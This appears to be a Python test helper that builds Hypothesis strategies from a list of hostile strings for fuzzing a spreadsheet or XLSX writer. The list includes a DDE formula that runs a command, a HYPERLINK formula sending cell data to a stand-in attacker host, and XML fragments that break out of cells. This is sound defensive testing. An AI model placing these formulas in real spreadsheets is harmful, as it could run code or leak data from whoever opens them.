"""Texts that mean harm, and the ways to make more of them."""

from __future__ import annotations

from hypothesis import strategies as st

HOSTILE = (
    "=1+1",
    "+82-10-1234-5678",
    "-5000",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "'=1+1",
    '"=1+1',
    "“=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\u22121",
    '<r></is></c><c r="A9"><f>1+1</f></c><c><is></r>',
    "<r><t>bold</t></r>",
    "]]></t></is></c>",
    "_x003D_1+1",
    "a_x0041_x0042_",
    "&amp;<&>\"'",
    "http://evil.example/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "{=1+1}",
    "#REF!",
    "TRUE",
    "1e5",
    "0012345",
    "01012345678",
    "3-4",
    "nan",
    "\ud800",
    "a\udfffb",
    "\ufffe\uffff",
    "\x1b[31mred",
    "\x07\x0b\x0c\x7f\x85",
    'a,b;c\td"e',
    "line\r\nline",
    "\u202egnp.exe",
    "\ufeff=1",
    "\u200b=1",
    "👨‍👩‍👧 가족",
    " padded ",
    "ID",
    "홍길동",
    "\u1112\u1161\u11ab",
)  # fmt: skip

texts = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(st.characters(), max_size=40),
    st.tuples(st.sampled_from(HOSTILE), st.text(st.characters(), max_size=10)).map("".join),
    st.tuples(st.sampled_from((" ", "'", '"', "\t", "\u201c", "<r>", "_x")), st.sampled_from(HOSTILE)).map(
        "".join
    ),
)
